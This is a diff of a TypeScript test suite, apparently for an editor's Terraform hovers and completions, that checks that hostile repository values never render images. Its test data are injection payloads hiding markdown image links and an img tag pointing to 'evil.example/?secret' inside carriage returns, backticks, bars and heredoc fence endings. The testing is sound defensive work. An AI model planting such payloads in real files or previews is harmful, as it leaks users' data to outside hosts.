@@ -19,6 +19,8 @@ interface Names {
   readonly value: string;
   readonly description: string;
   readonly label: string;
+  /** Of a value that is known after a plan. */
+  readonly expression?: string;
 }
 
 /** A file with a NUL character is not text. */
@@ -27,7 +29,14 @@ const inFile = hostileText.filter(text => !text.includes('\0'));
 /** A label can hold no line break, and no escape. */
 const labelOf = (text: string): string => text.replace(/[\r\n"\\]|[$%]\{/g, '-');
 
-const platform = ({ environment, attribute, value, description, label }: Names): string => `variable "size" {
+const platform = ({
+  environment,
+  attribute,
+  value,
+  description,
+  label,
+  expression = 'data.x.y',
+}: Names): string => `variable "size" {
   type        = string
   description = ${quoted(description)}
   default     = ${quoted(value)}
@@ -35,6 +44,7 @@ const platform = ({ environment, attribute, value, description, label }: Names):
 
 locals {
   text = ${quoted(value)}
+  name = terraform.workspace
 }
 
 module "${label}" {
@@ -46,6 +56,7 @@ module "${label}" {
       name_prefix = ${quoted(value)}
       base_domain = var.size
       ${quoted(attribute)} = local.text
+      tags = ${expression}
     }
     ops = {
       name_prefix = "x"
@@ -116,19 +127,18 @@ describe('hovers, tooltips and completions of a hostile repository', function ()
 
   const image = '![x](https://evil.example/?secret)';
   const attacks: readonly (readonly [what: string, names: Partial<Names>])[] = [
-    ['a value with a carriage return', { value: `a\r\r${image}` }],
-    ['a value with a bar', { value: `a\`|${image}|` }],
-    ['an attribute with a bar and a backtick', { attribute: `a\`|${image}` }],
-    ['an environment with a line break', { environment: `apps\n\n${image}` }],
-    ['a description', { description: `${image}\n\n<img src="https://evil.example/i.png">` }],
-    ['the label of a module', { label: `eks\`${image}` }],
-    ['a value with a fence', { value: `a\n\`\`\`\n${image}` }],
+    ['an attribute with carriage returns', { attribute: `a\r\r${image}` }],
+    ['an environment with carriage returns', { environment: `apps\r\r${image}` }],
+    ['an expression with the end of a fence', { expression: `data.x[<<-E\n\`\`\`\n${image}\nE\n]` }],
+    ['an attribute with a backslash and a bar', { attribute: `a\\|${image}` }],
   ];
   for (const [what, names] of attacks)
     it(`request no image for ${what}`, async () => {
       const { shown } = await shownFor({ ...usual, ...names });
       assert.ok(shown.size > 5, String(shown.size));
-      for (const text of shown) assertHarmless(text, { links: ours });
+      for (const text of shown)
+        for (const [engine, rendered] of renderings(text)) assert.equal(rendered.images, 0, `${engine}: ${text}`);
+      assert.ok([...shown].some(text => text.includes('evil.example')));
     });
 
   it('show any names and values whole, and nothing arises from them', async () => {
